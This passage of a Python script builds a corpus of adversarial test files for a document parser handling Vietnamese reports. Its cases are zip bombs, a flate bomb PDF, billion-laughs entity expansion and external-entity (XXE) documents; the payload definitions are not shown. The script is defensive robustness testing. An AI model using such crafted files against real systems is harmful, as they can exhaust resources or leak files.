    "no_content_types.docx": lambda: repack(docx_bytes([REPORT]), drop=("[Content_Types].xml",)),
    "password_protected.docx": _password_docx,
    "zip_bomb_honest.docx": lambda: zip_bomb(None),
    "zip_bomb_lying.docx": lambda: zip_bomb(declared_megabytes=0),
    "doctype_entity_expansion.docx": lambda: repack(
        docx_bytes([REPORT]), {"word/document.xml": BILLION_LAUGHS}
    ),
    "doctype_external_entity.docx": lambda: repack(
        docx_bytes([REPORT]), {"word/styles.xml": EXTERNAL_ENTITY}
    ),
    "doctype_utf16_hidden_part.docx": lambda: docx_plus("word/media/ghichu.bin", EXTERNAL_ENTITY_UTF16),
    "paragraph_20mb.docx": lambda: repack(
        docx_bytes(["x"]), {"word/document.xml": document_xml(paragraph_xml(long_paragraph(20)))}
    ),
    "paragraph_20mb.txt": lambda: long_paragraph(20).encode(),
    "nested_300_deep.docx": lambda: nested_docx(300),
    "parts_3000.docx": lambda: many_parts_docx(3000),
    "pages_2500.pdf": lambda: many_pages_pdf(2500),
    "truncated.pdf": lambda: text_pdf()[: len(text_pdf()) * 3 // 5],
    "broken_xref.pdf": lambda: text_pdf(xref_ok=False),
    "bad_mediabox.pdf": lambda: text_pdf().replace(b"[0 0 595 842]", b"[0 0 595]"),  # found by the fuzzer
    "flate_bomb.pdf": flate_bomb_pdf,
    "encrypted.pdf": encrypted_pdf,
    "image_only.pdf": image_only_pdf,
    "cid_font.pdf": cid_pdf,
    "tcvn3_vntime.docx": lambda: docx_bytes(
        [to_tcvn3(line) for line in TCVN3_REPORT.splitlines()], font=".VnTime"
    ),
    "tcvn3.txt": lambda: to_tcvn3(TCVN3_REPORT).encode("latin-1"),  # the bytes a .VnTime user saved
    "utf16.txt": lambda: REPORT.encode("utf-16"),
    "cp1258.txt": lambda: to_cp1258(REPORT),
    VIETNAMESE_NAME: lambda: REPORT.encode(),
    "no_figures.txt": lambda: NO_FIGURES.encode(),
    "text_in_top_band.pdf": lambda: placed_text_pdf(PDF_LINES, 820),  # was E012: band check came first
    "text_in_bottom_band.pdf": lambda: placed_text_pdf(PDF_LINES, 60),
    "digits_50000.txt": lambda: b"1" * 50_000,
    "digits_4_9mb.txt": lambda: b"7" * 4_900_000,
    "percent_100kb.txt": lambda: b"5% " * 34_000,
    "short_paragraphs_200000.docx": lambda: short_paragraphs_docx(200_000),
    "number_400_digits.txt": lambda: f"Đã vận động được {HUGE_NUMBER} đồng và hỗ trợ 25 hộ.\n".encode(),
    "formula_text.txt": lambda: FORMULA_REPORT.encode(),
    "text_pages_500.pdf": lambda: text_pages_pdf(500),
    "self_referencing.pdf": self_referencing_pdf,
    "zero_width_in_number.txt": lambda: "Hỗ trợ 1\u200b500 hộ nghèo và 2\u200c361 suất quà.\n".encode(),
    "nul_byte.txt": lambda: REPORT.replace("25 hộ", "25 hộ\x00").encode(),
    "numbering_start_abc.docx": lambda: numbering_docx("abc"),
    "altchunk_html.docx": altchunk_docx,
    "word97_report.doc": word97_doc,
    "appendix.xlsx": appendix_xlsx,
    "appendix.xls": appendix_xls,
    "truncated.xls": lambda: appendix_xls()[: len(appendix_xls()) * 3 // 5],
    "sheet_300000_cells.xls": huge_xls,
    "photo_of_page.png": photo_png,
}


def write_corpus(directory: Path) -> dict[str, Path]:
    """Write every case into `directory`; returns file name -> path."""
    directory.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, build in CASES.items():
        path = directory / name
        path.write_bytes(build())
        written[name] = path
    for name, make in SPECIAL.items():
        path = directory / name
        if not path.exists() and not path.is_symlink():
            make(path)
        written[name] = path
    return written


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_corpus.py DIRECTORY")
    for name, path in write_corpus(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>12,}  {name}")
